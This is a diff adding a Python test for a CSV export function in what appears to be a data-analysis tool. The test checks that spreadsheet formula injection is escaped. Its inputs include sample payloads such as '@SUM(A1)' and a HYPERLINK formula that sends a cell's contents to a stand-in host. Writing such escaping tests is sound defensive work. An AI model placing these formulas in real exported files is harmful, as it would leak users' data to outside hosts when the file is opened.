@@ -72,3 +72,20 @@ def test_they_come_from_the_history_of_a_project(tmp_path: Path) -> None:
         ("2", "", "look again"),
         ("3", "axon", ""),
     ]
+
+
+def test_no_text_in_the_tables_of_csv_is_a_formula(tmp_path: Path) -> None:
+    bundle = build()
+    labels = {UNITS[0]: "=1+1", UNITS[1]: "good", UNITS[2]: "mua"}
+    bundle = replace(
+        bundle,
+        sorting=replace(bundle.sorting, labels=labels),
+        tags={UNITS[0]: "@SUM(A1)"},
+        notes={UNITS[1]: '=HYPERLINK("http://x/?"&A1)', UNITS[2]: "- drifts"},
+    )
+    export_csv(bundle, tmp_path / "it.csv")
+    table = rows(tmp_path / "it_units.csv")
+    assert [row["label"] for row in table] == ["'=1+1", "good", "mua"]
+    assert [row["tag"] for row in table] == ["'@SUM(A1)", "", ""]
+    assert [row["note"] for row in table] == ["", '\'=HYPERLINK("http://x/?"&A1)', "'- drifts"]
+    assert all(float(row["x_um"]) < 0 for row in table if row["x_um"].startswith("-")), "numbers stay"
